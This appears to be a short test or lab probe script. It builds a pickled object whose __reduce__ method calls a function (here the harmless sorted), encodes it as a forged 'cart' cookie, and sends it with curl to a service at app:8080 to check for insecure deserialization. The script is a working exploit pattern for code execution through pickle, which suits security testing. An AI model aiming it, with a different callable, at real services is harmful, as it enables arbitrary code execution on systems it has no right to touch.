# reaches: had a cart taken that was not the service's
# reaches: had a function called
#-- a function is called, and nothing is read with it
cat > /tmp/cart.py <<'PY'
import base64, pickle, zlib
class Found:
    def __reduce__(self):
        return sorted, (["one", "two"],)
print(base64.urlsafe_b64encode(zlib.compress(pickle.dumps({"things": Found()}))).decode())
PY
curl -s -b "cart=$(python3 /tmp/cart.py)" http://app:8080/
echo none
